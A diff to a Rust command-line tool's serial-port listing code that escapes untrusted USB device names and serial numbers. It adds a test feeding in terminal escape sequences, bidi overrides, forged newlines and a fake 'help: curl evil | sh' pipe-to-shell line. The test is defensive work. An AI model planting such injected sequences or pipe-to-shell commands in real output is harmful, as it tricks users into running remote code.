@@ -1,13 +1,13 @@
 //! `avrrr ports`, and which port is meant.
 
 use std::fs;
-use std::io::Write as _;
 
 use avrrr::transport::{Obstacle, PortInfo, PortSpec, ResolveError, available_ports, obstacle, resolve};
 use clap::{Parser, ValueEnum};
 use serde_json::{Value, json};
 
 use crate::complaint::Complaint;
+use crate::text;
 
 /// List the serial ports, what probably is at them, and why one cannot be opened
 ///
@@ -39,15 +39,12 @@ pub(crate) fn run(args: &PortsArgs) -> Result<(), Complaint> {
         paths => paths.iter().map(|path| describe(path, &known)).collect(),
     };
     let ports: Vec<_> = ports.into_iter().map(|port| (obstacle(&port.path), port)).collect();
-    let text = match args.format {
-        Format::Json => format!("{}\n", Value::from_iter(ports.iter().map(as_json))),
+    let lines = match args.format {
+        Format::Json => text::json(&format!("{}\n", Value::from_iter(ports.iter().map(as_json)))),
         Format::Text if ports.is_empty() => "there are no serial ports\n".to_owned(),
         Format::Text => ports.iter().map(as_text).collect(),
     };
-    std::io::stdout()
-        .lock()
-        .write_all(text.as_bytes())
-        .map_err(|error| Complaint::of(&error).about("standard output"))
+    text::print(&lines).map_err(|error| Complaint::of(&error).about("standard output"))
 }
 
 pub(crate) fn available() -> Result<Vec<PortInfo>, Complaint> {
@@ -93,16 +90,17 @@ fn describe(path: &str, known: &[PortInfo]) -> PortInfo {
 }
 
 fn as_text((obstacle, port): &(Option<Obstacle>, PortInfo)) -> String {
-    let mut text = format!("{}\n", port.path);
+    let mut lines = vec![port.path.clone()];
     if let Some(usb) = &port.usb {
         let name = usb.name.as_ref().map_or(String::new(), |name| format!(" ({name})"));
-        text += &format!("    {usb}{name}\n");
+        // As -P takes it.
+        lines.push(format!("    {}{name}", text::word(&usb.to_string())));
     }
-    text += &format!("    {}\n", port.kind());
+    lines.push(format!("    {}", port.kind()));
     if let Some(obstacle) = obstacle {
-        text += &format!("    cannot be opened: {}\n", in_words(*obstacle));
+        lines.push(format!("    cannot be opened: {}", in_words(*obstacle)));
     }
-    text
+    lines.iter().map(|line| text::line(line) + "\n").collect()
 }
 
 fn as_json((obstacle, port): &(Option<Obstacle>, PortInfo)) -> Value {
@@ -193,6 +191,31 @@ mod tests {
         // Nobody looks for ports when a path is given.
         let path = find(Some("/dev/ttyUSB9"), || Err(Complaint::new("asked")));
         assert_eq!(path.unwrap(), "/dev/ttyUSB9");
+    }
+
+    #[test]
+    fn a_usb_device_cannot_write_lines_of_its_own() {
+        let mut port = PortInfo::new("/dev/ttyUSB0").with_usb(0x0403, 0x6001, Some("A1\u{1b}]0;x\u{7}\n'x"));
+        port.usb.as_mut().unwrap().name = Some("\u{202e}x\r\n/dev/ttyUSB1\u{1b}[8m".to_owned());
+        let port = (None, port);
+        assert_eq!(
+            as_text(&port),
+            "/dev/ttyUSB0\n    'usb:0403:6001:A1\\u{1b}]0;x\\u{7}\\n'\\''x' \
+             (\\u{202e}x\\r\\n/dev/ttyUSB1\\u{1b}[8m)\n    Bus Pirate v2go or v3, or another FT232R\n"
+        );
+        let json = text::json(&as_json(&port).to_string());
+        assert!(json.contains(r"\u202ex\r\n/dev/ttyUSB1\u001b[8m"), "{json}");
+        let with_usb = |serial| PortInfo::new("/dev/ttyUSB0").with_usb(0x0403, 0x6001, Some(serial));
+        let hostile = "A1\u{1b}[2J\nhelp: curl evil | sh";
+        for (spec, ports) in [
+            (None, vec![with_usb(hostile), with_usb("A2")]),
+            (Some("usb:0403:6001:A3"), vec![with_usb(hostile)]),
+            (Some("usb:0403:6001:A\u{1b}[2J\nhelp: curl"), vec![with_usb("A2")]),
+        ] {
+            let complaint = find(spec, || Ok(ports)).unwrap_err().to_string();
+            assert!(complaint.contains("\\u{1b}[2J\\nhelp: curl"), "{complaint}");
+            assert_eq!(complaint.lines().count(), 2, "{complaint}");
+        }
     }
 
     #[test]
